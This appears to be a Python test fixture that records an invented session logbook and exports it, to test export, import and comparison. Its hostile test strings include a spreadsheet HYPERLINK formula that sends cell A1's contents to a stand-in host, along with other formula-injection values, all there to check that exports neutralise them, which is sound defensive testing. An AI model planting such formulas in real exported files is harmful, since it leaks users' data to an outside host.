"""An invented test in a logbook for the tests of export, import and comparison, recorded once a session."""

from __future__ import annotations

import io
from functools import cache
from pathlib import Path
from tempfile import mkdtemp

from daemon.once import once
from daemon.virtual_time import VirtualTest, load_box
from lashmap_daemon.commands.exchange import export
from lashmap_daemon.commands.options import ExportOptions, Kind
from lashmap_daemon.exchange.frames import Which
from lashmap_daemon.story import events
from rich.console import Console

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"look")'
NOTES = (
    FORMULA,
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "'=1",
    "a\nb",
    'said "so", twice;',
    "žluť ☃",
    " ",
    "plain",
)


@cache
def recorded() -> tuple[Path, str]:
    """Logbook and test: eleven positions, a sweep of the gear, hostile texts."""
    folder = Path(mkdtemp(prefix="lashmap-exported-"))
    return folder / "virtual.logbook", once("exported", _record, folder)


def _record(folder: Path) -> str:
    box = load_box(positions=10, gear_turns=6.0, confirming_positions=1)
    named = box.box.model_copy(update={"type": FORMULA, "set_number": "-7", "remark": "Invented.\n=1+1"})
    test = VirtualTest(folder, box.model_copy(update={"box": named}), seed=4, sweeps=("gear",), tick_s=0.02)
    for text in NOTES:
        test._emit(events.NoteTaken(text=text))
    test._emit(events.PositionSkipped(number=3, engagement=7, reason="skipped at first"))
    test._emit(events.PositionSkipped(number=98, engagement=61, reason="refused 3 times,\nlast because: x."))
    test._emit(events.PositionSkipped(number=99, engagement=77, reason="skipped by the operator"))
    test.run()
    test.logbook.close()
    return test.started.test


def exported(to: Kind, output: Path, *, samples: Which = "all", every: bool = False) -> tuple[str, ...]:
    """Export the recorded test."""
    options = ExportOptions(
        test=None, logbook=recorded()[0], every=every, to=to, output=output, samples=samples, overwrite=False
    )
    return export(options, Console(file=io.StringIO(), width=200))
